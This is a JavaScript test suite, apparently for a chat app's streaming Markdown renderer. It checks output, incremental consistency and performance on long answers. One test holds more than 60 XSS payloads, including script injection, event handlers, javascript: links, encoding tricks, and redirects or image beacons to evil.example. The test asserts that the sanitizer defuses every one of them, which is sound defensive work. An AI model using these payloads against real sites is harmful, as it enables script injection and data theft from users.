// SPDX-License-Identifier: Apache-2.0
// Markdown of a model in the page: what it becomes, that nothing in it acts, and what a long answer costs.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { MARKDOWN } from './answers.mjs';
import { watchedPages } from './watched_pages.mjs';

const at = watchedPages();

const open = async () => {
  await at.open({}, '#/chat');
  await at.page.evaluate(`import('/js/chat/markdown.js').then(({ MarkdownView }) => {
    globalThis.render = (text, step = text.length) => {
      const element = document.createElement('div');
      document.querySelector('#chat-turns').replaceChildren(element);
      const view = new MarkdownView(element);
      for (let end = step; end < text.length; end += step) view.update(text.slice(0, end), false);
      view.update(text, true);
      return element;
    };
  })`);
};
const html = (text, step) => at.page.evaluate(`render(...${JSON.stringify([text, step].filter((part) => part !== undefined))}).innerHTML`);

// Each tries to run a script, to load something, to send something away, or to look like the page itself.
const ATTACKS = [
  '<script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<body onload=pwned()>',
  '<details open ontoggle=pwned()>x</details>',
  '<input autofocus onfocus=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<a href="javascript:pwned()">click</a>',
  '<form action="https://evil.example"><button>Send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>body { display: none }</style>',
  '<div style="position:fixed;inset:0;background:red">x</div>',
  '<dialog open id="token">Your token?<input></dialog>',
  '<img src="https://evil.example/a.png?secret">',
  '<template><script>pwned()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<x-element onclick=pwned()>x</x-element>',
  '[click](javascript:pwned())',
  '[click](JaVaScRiPt:pwned())',
  '[click](java\tscript:pwned())',
  '[click](javascript&#58;pwned())',
  '[click](&#106;avascript:pwned())',
  '[click](&#x6A;avascript&colon;pwned())',
  '[click](vbscript:pwned())',
  '[click](data:text/html,<script>pwned()</script>)',
  '[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)',
  '[click](file:///etc/passwd)',
  '[click](blob:https://evil.example/a)',
  '[click](/v1/models)',
  '[click](//evil.example/a)',
  '[click](https://evil.example "title\\" onmouseover=\\"pwned()")',
  '[click](https://evil.example/"onclick="pwned())',
  '[a]: javascript:pwned()\n\n[a]',
  '<javascript:pwned()>',
  '![picture](https://evil.example/a.png?secret)',
  '![picture](x" onerror="pwned())',
  '![" onerror="pwned()](x)',
  '![picture](javascript:pwned())',
  '![picture](data:image/svg+xml,<svg onload=pwned()>)',
  '![a][b]\n\n[b]: https://evil.example/a.png "onerror=pwned()"',
  '```"><img src=x onerror=pwned()>\ncode\n```',
  '```\n</code></pre><script>pwned()</script>\n```',
  '`</code><img src=x onerror=pwned()>`',
  '# <img src=x onerror=pwned()>',
  '| a <svg onload=pwned()> |\n| --- |\n| <script>pwned()</script> |',
  '- <img src=x\n  onerror=pwned()>',
  '> <script>\n> pwned()\n> </script>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '**<img src=x onerror=pwned()>**',
  '<!-- --><script>pwned()</script>',
  '<![CDATA[<script>pwned()</script>]]>',
  '<a id="chat-form" name="body" class="primary close">x</a>',
  '[x](https://evil.example){onclick=pwned()}',
  '```primary close\nx\n```',
];

// Run in the page: what of an element is more than text, with the addresses of its links.
function inspect(element) {
  const elements = 'A BLOCKQUOTE BR BUTTON CODE DEL DIV EM FIGCAPTION FIGURE H3 HR LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL';
  const attributes = 'align aria-label class href rel role start tabindex target title type';
  const classes = /^(|code|row|small|scroll|language-[\w+#.-]+|depth-[1-6])$/;
  const bad = [];
  const links = [];
  for (const each of element.querySelectorAll('*')) {
    if (!elements.split(' ').includes(each.nodeName)) bad.push(each.nodeName);
    for (const { name } of each.attributes) if (!attributes.split(' ').includes(name)) bad.push(`${each.nodeName} ${name}`);
    for (const name of each.classList) if (!classes.test(name)) bad.push(`class ${name}`);
    if (each.nodeName !== 'A') continue;
    if (!/^https?:$|^mailto:$/.test(each.protocol)) bad.push(each.href);
    if (each.rel !== 'noopener noreferrer' || each.target !== '_blank' || each.title !== each.href) bad.push(`rel of ${each.href}`);
    links.push(each.href);
  }
  return { bad, links };
}

describe('Markdown', () => {
  it('has titles, lists, tables, code and links, and pictures as links', async () => {
    await open();
    const made = await html(MARKDOWN);
    for (const part of [
      '<h3 class="depth-1">A title</h3>',
      '<strong>strong</strong>',
      '<em>slanted</em>',
      '<del>gone</del>',
      '<code>code</code>',
      'and<br>a second line.',
      '<blockquote>',
      'let a = 1 &lt; 2;',
      '<th align="right">number</th>',
      '<h3 class="depth-4">A smaller title</h3>',
      '<ol>',
      '☑',
      '<hr>',
    ]) {
      assert.ok(made.includes(part), `${part} is not in ${made}`);
    }
    const { bad, links } = await at.page.evaluate(`(${inspect})(render(${JSON.stringify(MARKDOWN)}))`);
    assert.deepEqual(bad, []);
    assert.deepEqual(links, ['https://example.org/a', 'https://example.org/picture.png']);
    assert.ok(!made.includes('<img'));
  });

  it('is the same however it comes', async () => {
    await open();
    const texts = [MARKDOWN, '- a\n\n- b\n\n\n- c\n\ntext', 'a\n***\nb', '```\n\ta\n```\n\n\tb\r\nc', '[a]\n\nb\n\n[a]: https://example.org', '1. a\n\n   b\n2. c', 'a\n=\nb\n-\n', '```python\nx'];
    for (const text of texts) {
      const whole = await html(text);
      for (const step of [1, 2, 7]) assert.equal(await html(text, step), whole, `${JSON.stringify(text)} by ${step}`);
    }
  });

  it(`is harmless: ${ATTACKS.length} attacks, whole and character by character [threat-40]`, async () => {
    assert.ok(ATTACKS.length >= 50);
    await open();
    await at.page.evaluate('globalThis.pwned = () => (globalThis.isPwned = true)');
    for (const attack of ATTACKS) {
      for (const step of [1, attack.length]) {
        const { bad, links } = await at.page.evaluate(`(${inspect})(render(${JSON.stringify(attack)}, ${step}))`);
        assert.deepEqual(bad, [], attack);
        for (const link of links) assert.match(link, /^https:\/\/evil\.example/, attack);
      }
    }
    assert.equal(await at.page.evaluate('globalThis.isPwned'), undefined);
    assert.equal(await at.page.evaluate('document.querySelectorAll("#token").length'), 1);
    // watchedPages finds that nothing was asked for elsewhere, and no violation of the policy.
  });

  // 20,000 tokens, some 100,000 characters.
  for (const [name, block] of [
    ['paragraphs', 'A paragraph of **words** with `code`, and a [link](https://example.org).\n\n- a list\n- of two\n\n'],
    ['one block of code', '  let number = 12 + 30; // a line of code\n'],
  ]) {
    it(`of 20,000 tokens comes without a lag: ${name}`, async () => {
      await open();
      const result = await at.page.evaluate(`(async () => {
        const { MarkdownView } = await import('/js/chat/markdown.js');
        const element = document.createElement('div');
        document.querySelector('#chat-turns').replaceChildren(element);
        const view = new MarkdownView(element);
        const block = ${JSON.stringify(block)};
        const begin = ${JSON.stringify(name)} === 'paragraphs' ? '' : '\`\`\`js\\n';
        const text = begin + block.repeat(Math.ceil(100000 / block.length));
        let removed = 0;
        new MutationObserver((changes) => {
          for (const change of changes) removed += change.removedNodes.length;
        }).observe(element, { childList: true });
        const times = [];
        for (let end = 5; end < text.length; end += 50) { // ten tokens a frame
          const start = performance.now();
          view.update(text.slice(0, end), false);
          times.push(performance.now() - start);
          if (times.length % 100 === 0) await new Promise((resolve) => setTimeout(resolve));
        }
        const start = performance.now();
        view.update(text, true);
        const last = performance.now() - start;
        await new Promise((resolve) => setTimeout(resolve));
        const mean = (list) => list.reduce((sum, each) => sum + each, 0) / list.length;
        const quarter = Math.floor(times.length / 4);
        return { removed, frames: times.length, first: mean(times.slice(0, quarter)), later: mean(times.slice(-quarter)),
          most: Math.max(...times), last, shown: element.textContent.length };
      })()`);
      console.log(name, JSON.stringify(result));
      assert.ok(result.shown > 50_000);
      // Each frame replaces at most the nodes of the last block; one that is over stays.
      assert.ok(result.removed < 3 * result.frames, `${result.removed} nodes were removed in ${result.frames} frames`);
      assert.ok(result.later < 4 * result.first + 4, `a frame takes ${result.first} ms at first and ${result.later} ms later`);
      assert.ok(result.later < 100, `a frame takes ${result.later} ms`);
    });
  }
});
